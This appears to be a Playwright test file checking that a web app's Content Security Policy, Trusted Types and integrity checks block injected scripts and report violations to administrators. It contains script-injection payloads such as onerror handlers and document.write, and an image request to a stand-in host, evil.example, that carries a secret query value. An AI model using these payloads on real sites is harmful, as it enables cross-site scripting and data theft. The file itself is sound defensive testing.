// What an attacker would do in a page of ours: it is blocked by the browser, and told to the operators.
import { setTimeout as pause } from 'node:timers/promises';

import { visit } from '../../support/arrive.js';
import { makeAdministrator } from '../../support/people.js';
import { signIn } from '../../support/sessions.js';
import { expect, test } from '../../support/test.js';
import { changeOnTheWay, openToAttack } from '../../support/violations.js';

/** An administrator finds a line with these words. */
async function expectTold({ page, server, bob }, ...words) {
  await makeAdministrator(server, bob);
  await signIn(page, bob);
  await expect(async () => {
    await visit(page, '/admin/browser-reports');
    let row = page.getByRole('row');
    for (const word of words) row = row.filter({ hasText: word });
    await expect(row).toBeVisible({ timeout: 500 });
  }).toPass({ timeout: 10_000 });
}

test('an injected script is blocked, and told', async ({ browser, baseURL, page, server, bob }) => {
  const attacked = await openToAttack(browser, baseURL, '/sign-in');
  const refused = await attacked.evaluate(() => {
    const script = document.createElement('script');
    try {
      script.textContent = 'window.pwned = 1';
    } catch (error) {
      return error.name;
    } finally {
      document.head.append(script);
    }
    return 'nothing was refused';
  });
  expect(refused).toBe('TypeError');
  expect(await attacked.evaluate(() => window.pwned)).toBeUndefined();
  const violations = () => attacked.evaluate(() => window.violations);
  await expect.poll(violations).toContainEqual({ rule: 'require-trusted-types-for', blocked: 'trusted-types-sink' });
  await attacked.context().close();
  await expectTold({ page, server, bob }, 'require-trusted-types-for', 'trusted-types-sink', '/sign-in');
});

test('a picture of another site is kept out, and told without its query', async ({ browser, baseURL, page, server, bob }) => {
  const attacked = await openToAttack(browser, baseURL, '/sign-up?stolen=yes');
  await attacked.evaluate(() => (new Image().src = 'https://evil.example/x.png?secret=1'));
  await expect.poll(() => attacked.evaluate(() => window.violations.map(({ rule }) => rule))).toContain('img-src');
  await attacked.context().close();
  await expectTold({ page, server, bob }, 'img-src', 'https://evil.example', '/sign-up');
  await expect(page.getByRole('main')).not.toContainText('secret');
  await expect(page.getByRole('main')).not.toContainText('stolen');
});

/** Ways to make markup or code of a text. Each throws, because no page of ours has a policy that allows it. */
const sinks = {
  innerHTML: () => (document.body.innerHTML = '<img src=x onerror="window.pwned = 1">'),
  outerHTML: () => (document.querySelector('main').outerHTML = '<p>'),
  insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned = 1">'),
  'document.write': () => document.write('<script>window.pwned = 1</script>'),
  DOMParser: () => new DOMParser().parseFromString('<p>', 'text/html'),
  createContextualFragment: () => document.createRange().createContextualFragment('<script>window.pwned = 1</script>'),
  srcdoc: () => (document.createElement('iframe').srcdoc = '<script>parent.pwned = 1</script>'),
  'script.src': () => (document.createElement('script').src = '/pkg/x.js'),
  'script.text': () => (document.createElement('script').text = 'window.pwned = 1'),
  handler: () => document.body.setAttribute('onclick', 'window.pwned = 1'),
  template: () => (document.createElement('template').innerHTML = '<p>'),
  policy: () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }),
  'default policy': () => trustedTypes.createPolicy('default', { createHTML: (text) => text }),
};

/** Runs an attack in a page. Returns the name of what it throws. */
const attempt = (page, attack) =>
  page.evaluate(`(() => { try { (${attack})(); return 'nothing was refused'; } catch (error) { return error.name; } })()`);

test('no text becomes markup or code', async ({ browser, baseURL }) => {
  const attacked = await openToAttack(browser, baseURL, '/sign-in');
  for (const [name, attack] of Object.entries(sinks)) {
    expect(await attempt(attacked, attack), name).toBe('TypeError');
  }
  expect(await attacked.evaluate(() => window.pwned)).toBeUndefined();
  // The control: where no rule stands, the same is done.
  const free = await attacked.context().newPage();
  for (const name of ['innerHTML', 'template', 'script.text']) {
    expect(await attempt(free, sinks[name]), name).toBe('nothing was refused');
  }
  await attacked.context().close();
});

test('without Trusted Types the nonce alone stops a handler in injected markup', async ({ browser, baseURL }) => {
  const attacked = await openToAttack(browser, baseURL, '/sign-in', (page) =>
    changeOnTheWay(page, '**/sign-in', ({ headers, body }) => {
      const policy = headers['content-security-policy'].replace("require-trusted-types-for 'script'; trusted-types 'none'; ", '');
      return { headers: { ...headers, 'content-security-policy': policy }, body };
    }),
  );
  expect(await attempt(attacked, sinks.insertAdjacentHTML)).toBe('nothing was refused');
  const rules = () => attacked.evaluate(() => window.violations.map(({ rule }) => rule));
  await expect.poll(rules).toContain('script-src-attr');
  expect(await attacked.evaluate(() => window.pwned)).toBeUndefined();
  await attacked.context().close();
});

for (const [kind, ending] of [['script', 'js'], ['module', 'wasm'], ['style', 'css']]) {
  test(`a ${kind} that was changed on the way is not taken`, async ({ browser, baseURL }) => {
    const context = await browser.newContext({ baseURL });
    const page = await context.newPage();
    const said = [];
    page.on('console', (message) => said.push(message.text()));
    await changeOnTheWay(page, `**/pkg/*.${ending}`, ({ headers, body }) => {
      return { headers, body: Buffer.concat([body, Buffer.from('\n')]) };
    });
    await page.goto('/sign-in');
    await expect.poll(() => said.join('\n')).toMatch(/integrity/i);
    if (kind === 'style') {
      expect(await page.evaluate(() => document.styleSheets.length)).toBe(0);
    } else {
      // Longer than a page takes to listen.
      await pause(1_000);
      await expect(page.locator('html')).not.toHaveAttribute('data-hydrated');
    }
    await context.close();
  });
}

test('what the browser downloads makes no markup of text', async ({ page, request, baseURL }) => {
  await visit(page, '/sign-up');
  const html = await (await request.get(`${baseURL}/sign-up`)).text();
  const [module] = /\/pkg\/[^"]+\.wasm/.exec(html);
  const bytes = (await (await request.get(`${baseURL}${module}`)).body()).toString('latin1');
  expect(bytes.length).toBeGreaterThan(100_000);
  expect(bytes.match(/<([a-z][a-z0-9-]+)[^<>]{0,200}>[^<>]{0,200}<\/\1>/g), 'markup as text').toBeNull();
  // The bar of the strength is the one element of the islands that could be a text: it is shown all the same.
  await page.getByLabel('Password', { exact: true }).fill('a password');
  await expect(page.locator('.strength-bar')).toBeVisible();
});
